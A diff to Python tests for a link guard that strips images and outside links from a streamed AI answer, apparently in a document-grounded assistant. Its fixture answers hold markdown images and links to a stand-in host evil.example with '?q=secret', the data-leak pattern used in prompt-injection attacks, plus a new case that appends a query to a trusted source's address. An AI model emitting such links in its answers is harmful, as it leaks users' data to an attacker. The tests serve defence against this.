@@ -121,7 +121,8 @@ async def test_images_and_links_to_other_hosts_are_stripped_from_the_stream(
     scripted.config.answer = [
         "Brew it two minutes [1]. ![x](https://ev", "il.example/?q=secret) Also [cli", "ck](",
         "http://evil.example) and <https://evil.exa", "mple/a>. See [Tea](https://docs.",
-        "example/tea) or ![", "diagram](https://docs.example/d.png) [2].",
+        "example/tea) or ![", "diagram](https://docs.example/d.png) [2]. [More](https://docs.",
+        "example/tea?q=secret).",
     ]  # fmt: skip
 
     tokens, done, polled = await _answer(tea, "How long do I brew green tea?")
@@ -129,9 +130,11 @@ async def test_images_and_links_to_other_hosts_are_stripped_from_the_stream(
     assert len(tokens) > 1 and "".join(tokens) == done == polled
     assert not any("evil" in token for token in tokens), tokens
     assert "evil" not in done and "secret" not in done
+    # An image is its alt text even on a source's host, and a link keeps its address only if
+    # it is a source's own: the model cannot add a query to a host an uploader named.
     assert done == (
         "Brew it two minutes [1]. x Also click and . See [Tea](https://docs.example/tea) "
-        "or diagram [2]."
+        "or diagram [2]. More."
     )
 
 
@@ -148,15 +151,26 @@ SPLIT_ANSWERS = [
 ]
 
 
+# The sources' own locations: the only addresses a link may keep.
+DOCS = frozenset(
+    [
+        "https://docs.example/tea",
+        "https://docs.example/b",
+        "https://docs.example/ok",
+        "https://docs.example/",
+    ]
+)
+
+
 @pytest.mark.parametrize("answer", SPLIT_ANSWERS)
 def test_links_are_judged_alike_however_the_stream_splits_them(answer: str) -> None:
-    whole = _guarded(LinkGuard(frozenset({"docs.example"})), [answer])
+    whole = _guarded(LinkGuard(DOCS), [answer])
     assert "evil" not in whole and "docs.example" in whole
     assert "[1](page 3) is text." in whole or not answer.startswith("[1]")
     for cut in range(len(answer) + 1):
         for other in range(cut, len(answer) + 1, 5):
             pieces = [answer[:cut], answer[cut:other], answer[other:]]
-            assert _guarded(LinkGuard(frozenset({"docs.example"})), pieces) == whole, pieces
+            assert _guarded(LinkGuard(DOCS), pieces) == whole, pieces
 
 
 def test_echoes_are_judged_alike_however_the_stream_splits_them() -> None:
